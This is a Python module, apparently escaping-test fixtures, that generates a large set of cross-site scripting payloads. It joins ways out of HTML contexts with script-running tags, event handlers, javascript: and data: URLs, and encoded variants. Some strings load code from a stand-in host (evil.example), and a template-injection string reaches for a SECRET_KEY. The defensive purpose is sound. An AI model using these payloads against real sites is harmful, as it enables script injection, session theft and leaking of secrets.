"""Markup that would run if one output forgot to escape it: ways out of a context × what runs there."""

from itertools import product

CALL = "alert(1)"

_WAYS_OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", '"/>', "&quot;>")
"""What ends the context that a careless template puts a value in."""

_RUNS = (
    f"<script>{CALL}</script>",
    f"<ScRiPt/x>{CALL}</sCrIpT >",
    "<script src=//evil.example/x></script>",
    f"<img src=x onerror={CALL}>",
    f"<img/src/onerror={CALL}//",
    f"<svg onload={CALL}>",
    f"<svg/onload={CALL}//",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><style><img src=x onerror={CALL}></style>",
    f"<svg><a xlink:href=javascript:{CALL}><text>x</a>",
    f"<math><a xlink:href=javascript:{CALL}>x",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<iframe srcdoc='<script>{CALL}</script>'>",
    f"<iframe src=javascript:{CALL}>",
    f"<object data=javascript:{CALL}>",
    "<embed src=data:text/html,x>",
    "<base href=//evil.example/>",
    f"<meta http-equiv=refresh content=0;url=javascript:{CALL}>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<style>@import'//evil.example/x'</style>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<a href='java&#9;script:{CALL}'>x</a>",
    f"<a href=data:text/html,<script>{CALL}</script>>x</a>",
    f"<form action=javascript:{CALL}><button>x",
    f"<button formaction=javascript:{CALL}>x",
    f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>x",
    f"<video><source onerror={CALL}>",
    f"<body onload={CALL}>",
    f"<p style=animation:x onanimationstart={CALL}>x",
    f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<template><script>{CALL}</script></template>",
    f"<xmp><p title='</xmp><img src=x onerror={CALL}>'>",
    f"<!--><img src=x onerror={CALL}>",
)
_BARE = (
    f'" onmouseover={CALL} x="',
    f"' onfocus={CALL} autofocus x='",
    f"` onclick={CALL} `",
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}//",
    f"java\tscript:{CALL}",
    f"\x01javascript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"vbscript:{CALL}",
    "//evil.example/x",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{ 7|add:7 }}{% debug %}{{ settings.SECRET_KEY }}",
    "${7*7}<%= 7*7 %>#{7*7}",
    '"};alert(1);//',
    "</script><!--<script>",
    "<b>bold</b> & <i>kept as text</i>",
)

PAYLOADS = tuple(dict.fromkeys([way + run for way, run in product(_WAYS_OUT, _RUNS)] + list(_BARE)))
LINKS = tuple(payload for payload in _BARE if ":" in payload[:16] or payload.startswith("//"))
"""What does harm as an address."""
